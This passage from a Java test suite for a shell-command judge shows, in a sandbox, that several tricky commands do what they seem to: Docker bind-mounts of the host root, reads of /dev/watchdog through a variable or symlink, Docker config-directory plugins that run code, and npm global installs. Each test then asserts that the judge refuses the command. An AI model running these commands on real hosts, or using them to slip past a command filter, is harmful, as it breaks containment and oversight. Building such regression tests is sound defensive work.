   * local volume with {@code device=/}, {@code o=bind} asks the engine to bind-mount {@code /}. (The
   * engine's own mounting is not run here.)
   */
  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      V3 => docker container "$1" web touch /tmp/cv-w => "Cmd":["touch","/tmp/cv-w"]
      V21 => docker run --rm --mount type=volume,type=bind,source=/,target=/h alpine true => "Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]
      V21 => docker run --rm --mount type=bind,source=data,source=/,target=/h alpine true => "Mounts":[{"Type":"bind","Source":"/","Target":"/h"}]
      V4 => docker volume create -o type=none -o o=bind -o device=/ v => "DriverOpts":{"device":"/","o":"bind","type":"none"}
      V4 => docker run --rm --mount type=volume,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ alpine true => "device":"/"
      """)
  void dockerRequestsProvenInSandbox(String finding, String text, String expected) throws Exception {
    TestPrograms.assumeSandbox("docker");
    Assumptions.assumeTrue(TestPrograms.onPath("python3"), "python3 is needed");
    String script = "cd /tmp\ncat > /tmp/s.py <<'EOF'\n" + DOCKERD + "EOF\npython3 /tmp/s.py &\n"
        + "for i in 1 2 3 4 5 6 7 8 9 10; do [ -S /tmp/d.sock ] && break; sleep 0.3; done\n"
        + "export DOCKER_HOST=unix:///tmp/d.sock DOCKER_CONFIG=/tmp/.docker\nset -- exec\n"
        + "(" + text + ") >/dev/null 2>&1\ncat /tmp/dockerd.log\n";
    String out = TestPrograms.output(TestPrograms.sandbox(script));
    assertThat(out).as("%s: %s (output: %s)", finding, text, out).contains(expected);
    ShellJudgeTest.assertRefusedBoth(text);
  }

  /**
   * V22: bash opens a read redirection's file by the variable's value or through the link the text
   * made. A FIFO stands in for {@code /dev/watchdog} in the sandbox's own {@code /dev}; its writer's
   * line arrives only when the text opens it.
   */
  @ParameterizedTest(name = "V22: {0}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      f=/dev/watchdog; cat < $f
      cd /dev; f=watchdog; cat < "$f"
      ln -s /dev /tmp/d; cat < /tmp/d/watchdog
      """)
  void readThroughVariableProvenInSandbox(String text) throws Exception {
    TestPrograms.assumeSandbox("mkfifo");
    String out = TestPrograms.output(TestPrograms.sandbox("cd /tmp\nmkfifo /dev/watchdog && (echo opened-17cv > /dev/watchdog &)\n("
        + text + ")\n"));
    assertThat(out).as("V22: %s (output: %s)", text, out).contains("opened-17cv");
    ShellJudgeTest.assertRefusedBoth(text);
  }

  /** V24: the docker CLI runs the plugins of the configuration directory it is given. */
  @ParameterizedTest(name = "V24: {0}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      docker --config /tmp/c compose ps => plugin-from-config-ran: --config /tmp/c compose ps
      docker --config /tmp/c --help => metadata-ran
      """)
  void dockerConfigPluginsProvenInSandbox(String text, String expected) throws Exception {
    TestPrograms.assumeSandbox("docker");
    String plugin = String.join("\n", "#!/bin/sh",
        "if [ \"$1\" = docker-cli-plugin-metadata ]; then echo ran > /tmp/meta;"
            + " echo '{\"SchemaVersion\":\"0.1.0\",\"Vendor\":\"cv\",\"Version\":\"1\"}'; exit 0; fi",
        "echo plugin-from-config-ran: \"$@\"", "");
    String script = "cd /tmp\nmkdir -p /tmp/c/cli-plugins\ncat > /tmp/c/cli-plugins/docker-compose <<'EOF'\n" + plugin
        + "EOF\nchmod +x /tmp/c/cli-plugins/docker-compose\n(" + text + ") 2>&1 | grep plugin-from\n"
        + "[ -f /tmp/meta ] && echo metadata-ran\n";
    String out = TestPrograms.output(TestPrograms.sandbox(script));
    assertThat(out).as("V24: %s (output: %s)", text, out).contains(expected);
    ShellJudgeTest.assertRefusedBoth(text);
  }

  /** V26: npm reads {@code -gD} as {@code -g -D}: the package lands in the global prefix (the sandbox's own). */
  @Test
  void npmBundleProvenInSandbox() throws Exception {
    TestPrograms.assumeSandbox("npm");
    String text = "npm i -gD /tmp/pkg";
    String script = "mkdir -p /tmp/pkg /tmp/p /tmp/proj && cd /tmp/proj\n"
        + "echo '{\"name\":\"cvpkg\",\"version\":\"1.0.0\"}' > /tmp/pkg/package.json\n"
        + "export npm_config_prefix=/tmp/p npm_config_offline=true npm_config_audit=false npm_config_fund=false"
        + " npm_config_update_notifier=false\n(" + text + ") >/dev/null 2>&1\nls /tmp/p/lib/node_modules\n";
    String out = TestPrograms.output(TestPrograms.sandbox(script));
    assertThat(out).as("V26 (output: %s)", out).contains("cvpkg");
    ShellJudgeTest.assertRefusedBoth(text);
  }
}
